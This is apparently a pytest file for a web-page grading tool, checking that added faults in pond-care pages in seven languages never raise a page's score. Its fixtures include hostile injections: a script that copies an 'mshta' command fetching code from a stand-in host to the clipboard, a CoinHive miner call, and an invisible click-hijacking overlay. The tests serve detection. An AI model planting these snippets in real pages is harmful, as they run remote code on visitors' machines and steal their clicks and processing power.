"""A fault that is added to a page, of any kind and in any number, never raises its score; grave ones cost much."""

from __future__ import annotations

import re
from collections.abc import Callable
from statistics import median
from urllib.parse import quote

import pytest

from devtools.mutations import COUNTED
from pagegrade.model.report import Report
from pagegrade.service.runs.analysis import artifacts_of_document
from pagegrade.service.runs.evaluation import evaluate_artifacts

URL = "https://www.pond.example/care"
HEADERS = (("Content-Type", "text/html; charset=utf-8"), ("Strict-Transport-Security", "max-age=63072000"))
TEXTS = {
    "en": (
        "The garden pond",
        "A garden pond needs care in every season: cut back plants in autumn and feed fish in June.",
    ),
    "de": (
        "Der Gartenteich",
        "Ein Gartenteich braucht in jeder Jahreszeit Pflege: Schneiden Sie im Herbst die Gräser zurück.",
    ),
    "ru": ("Садовый пруд", "Когда зацветает сад, пора открыть пруд и накормить рыб в тёплой воде у самого берега."),
    "el": ("Η λίμνη του κήπου", "Τον χειμώνα αφήνουμε μια τρύπα στον πάγο της λίμνης για να αναπνέουν τα ψάρια μας."),
    "ar": ("بركة الحديقة", "في الشتاء نترك ثقبا في جليد البركة حتى تتنفس الأسماك في الماء البارد كل يوم."),
    "ja": ("庭の池", "庭の池を作るには、まず日当たりと水はけを確認します。冬の前に落ち葉を取り除きます。"),
    "hi": ("बगीचे का तालाब", "शीतकाल में तालाब की बर्फ में एक छेद छोड़ दें ताकि मछलियाँ साँस ले सकें और पौधे बचें।"),
}
NUMBERS = (1, 3, 7, 11, 20, 70)


def page_of(language: str) -> str:
    """An ordinary page in a language."""
    title, text = TEXTS[language]
    paragraphs = "".join(
        f"<h2>{title} {number}</h2><p>{number}. {text} {text[:40]} {number * 7}</p>" for number in range(12)
    )
    return (
        f'<!doctype html><html lang="{language}"><head><meta charset="utf-8"><title>{title} - pond.example</title>'
        '<meta name="viewport" content="width=device-width, initial-scale=1">'
        f'<meta name="description" content="{text}"><link rel="canonical" href="{URL}"></head><body>'
        f'<header><a href="/">Pond</a></header><main><h1>{title}</h1>{paragraphs}'
        f'<p><a href="/fish">{title} 2</a> <img src="/pond.jpg" alt="{title}" width="600" height="400"></p></main>'
        "<footer><p>Pond, Street 1</p></footer></body></html>"
    )


PAGES = {language: page_of(language) for language in TEXTS}


def faulty(language: str, body: str) -> str:
    """A page with that body instead of its own."""
    before, _ = PAGES[language].split("<body>")
    return f"{before}<body>{body}</body></html>"


GERMAN = (
    "Ein Gartenteich braucht in jeder Jahreszeit Pflege. Im Herbst schneiden wir die Gräser am Ufer zurück und fischen "
    "das Laub heraus, bevor es zu Boden sinkt. Im Winter lassen wir ein Loch im Eis offen, damit die Fische atmen "
    "können. Wenn im Frühling die Weiden blühen, öffnen wir den Teich wieder und füttern die Tiere sparsam. Im Sommer "
    "verdunstet an heißen Tagen viel Wasser, das wir abends mit Regenwasser aus der Tonne ersetzen. Algen fischen wir "
    "mit einem Rechen ab, denn Mittel aus dem Handel schaden den Molchen. Wer einen neuen Teich anlegt, achtet auf "
    "eine flache Zone am Rand, in der Vögel baden und Igel wieder herausklettern können."
)
FAULTY = {
    "empty": faulty("en", ""),
    "a picture": faulty("en", "<img src=/menu.jpg alt='The menu' width=1400 height=3600>"),
    "a frame": faulty("en", "<iframe src=https://b.example/ title=Menu width=100% height=1200></iframe>"),
    "an error": faulty("en", "<h1>Pond</h1><p>Fatal error: Unexpectedly found nil, file App/routes.swift, line 18"),
    "another language": faulty("en", f"<a href=/fish>Fische</a><h1>Der Teich</h1><p>{GERMAN}</p>"),
    "stuffed": faulty("en", "<a href=/fish>Fish</a><h1>Pond</h1><p>" + "cheap pond best pond buy pond online " * 60),
    "for the mouse": faulty("en", "<h1>Pond</h1>" + "<div onclick=go()>Page</div>" * 12),
    "links by script": faulty(
        "en", "<h1>Pond</h1><a href='javascript:go(1)'>Fish</a> <a href='javascript:go(2)'>Plants</a>"
    ),
    "without labels": faulty("en", "<h1>Order</h1><form method=post><input name=a><input name=b><input name=c></form>"),
    "a dead end": faulty("de", f"<h1>Der Teich</h1><p>{GERMAN}</p>"),
}
"""Pages with a fault already: what is added to them does not hide it."""


def report_of(html: str, headers: tuple[tuple[str, str], ...] = HEADERS) -> Report:
    """The report of a page at hand."""
    return evaluate_artifacts(artifacts_of_document(html.encode("utf-8", "replace"), url=URL, headers=headers))


def into_head(added: str) -> Callable[[str, int], str]:
    """The same at the end of the head."""
    return lambda html, count: html.replace("</head>", added * count + "</head>")


def in_texts(change: Callable[[str], str]) -> Callable[[str], str]:
    """A change of every text between two tags of the body."""

    def mutate(html: str) -> str:
        head, body = html.split("<body>")
        return f"{head}<body>" + re.sub(r">([^<]{2,})<", lambda match: f">{change(match[1])}<", body)

    return mutate


def styled(rules: str) -> Callable[[str], str]:
    """The page with a style sheet of its own."""
    return lambda html: html.replace("</head>", f"<style>{rules}</style></head>")


WHOLE: dict[str, Callable[[str], str]] = {
    "emptied main": lambda html: re.sub(r"<main>.*</main>", "<main></main>", html, flags=re.DOTALL),
    "filling text everywhere": in_texts(
        lambda _: "Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod."
    ),
    "an unfilled template": in_texts(lambda _: "{{ page.text }}"),
    "misread text": in_texts(lambda text: text.encode().decode("cp1251", "replace")),
    "hidden page": lambda html: html.replace("</head>", "<style>body{display:none}</style></head>"),
    "white on white": lambda html: html.replace("</head>", "<style>body{color:#fff} a{color:#fff}</style></head>"),
    "letters of a pixel": lambda html: html.replace("</head>", "<style>body{font-size:1px}</style></head>"),
    "900 stuffed words": lambda html: html.replace("</main>", "<p>" + "cheap pond buy " * 300 + "</p></main>"),
    "refresh to another site": lambda html: html.replace(
        "</head>", '<meta http-equiv="refresh" content="0;url=https://lead.other.example/"></head>'
    ),
    "a canonical of another site": lambda html: html.replace(f'href="{URL}"', 'href="https://staging.host.example/x"'),
    "a canonical of the home page": lambda html: html.replace(f'href="{URL}"', 'href="https://www.pond.example/"'),
    "a page moved away": styled("main,header,footer{position:absolute;left:-9999px}"),
    "a folded main part": styled("main{max-height:0;overflow:hidden}"),
    "a main part hidden by a query": styled("@media (min-width:1px){main{display:none}}"),
    "a blurred page": styled("body{filter:blur(12px)}"),
    "faint text": styled("body,a{color:rgba(0,0,0,.04)}"),
    "a page that cannot be pressed": styled("body{pointer-events:none}"),
    "text as in an address": in_texts(lambda text: quote(f"Größe und Länge {text}", safe=" ")),
    "a layer for all clicks": lambda html: html.replace(
        "</body>",
        "<a href=https://bet.other.example/ style='position:fixed;inset:0;z-index:99;opacity:0'></a></body>",
    ),
    "a command to paste": lambda html: html.replace(
        "</body>", "<script>navigator.clipboard.writeText('mshta https://a.other.example/')</script></body>"
    ),
    "variables of the server": lambda html: html.replace(
        "</main>",
        "<table><tr><td>REMOTE_ADDR<td>10.0.0.3<tr><td>DOCUMENT_ROOT<td>/var/www/pond</table></main>",
    ),
    "a coin miner": lambda html: html.replace("</body>", "<script>new CoinHive.Anonymous('k').start()</script></body>"),
    "foreign keywords": lambda html: re.sub(
        r"<title>.*?</title>(.*?content=)\"[^\"]*\"(><link)",
        r'<title>베트남 카지노</title>\1"베트남 카지노 추천"\2',
        html,
    ).replace("</main>", "".join(f"<a href=/k{n}>베트남 카지노 {n}</a>" for n in range(40)) + "</main>"),
}
GRAVE = frozenset(WHOLE) - {"emptied main", "foreign keywords"}
"""Emptied pages get no grade or are short; keywords in another script need a page whose language has one script."""


@pytest.mark.parametrize("fault", COUNTED)
def test_more_of_a_fault_is_never_better(fault: str) -> None:
    """In any number, in any language: no page scores more than without it, nor more than with fewer."""
    risen = []
    for language, html in PAGES.items():
        scores = [report_of(html).score, *(report_of(COUNTED[fault](html, count)).score for count in NUMBERS)]
        known = [one for one in scores if one is not None]
        if known != sorted(known, reverse=True):
            risen.append((language, scores))

    assert risen == []


@pytest.mark.parametrize("fault", COUNTED)
def test_no_fault_hides_another(fault: str) -> None:
    """A worse fact is never diluted: neither by more text nor by links, fields, pictures and frames of no use."""
    risen = []
    for name, html in FAULTY.items():
        scores = [report_of(html).score, *(report_of(COUNTED[fault](html, count)).score for count in (1, 7, 30))]
        known = [one for one in scores if one is not None]
        if known != sorted(known, reverse=True):
            risen.append((name, scores))

    assert risen == []


@pytest.mark.parametrize("name", FAULTY)
def test_page_with_a_fault_has_a_score(name: str) -> None:
    """The law says nothing about pages without one."""
    assert report_of(FAULTY[name]).score is not None


@pytest.mark.parametrize("fault", WHOLE)
def test_grave_faults_cost_much(fault: str) -> None:
    """The median fall over the languages; a page that gets no grade any more has fallen to nothing."""
    falls = []
    for html in PAGES.values():
        before, after = report_of(html).score or 0, report_of(WHOLE[fault](html))
        falls.append(before - (after.score or 0))

    assert min(falls) >= 0
    assert fault not in GRAVE or median(falls) >= 20


def test_a_policy_that_blocks_the_page_costs_much() -> None:
    """A header is a fault as well."""
    html = PAGES["en"].replace("</head>", "<link rel=stylesheet href=/s.css></head>")
    blocked = report_of(html, (*HEADERS, ("Content-Security-Policy", "default-src self")))

    assert (report_of(html).score or 0) - (blocked.score or 0) >= 20
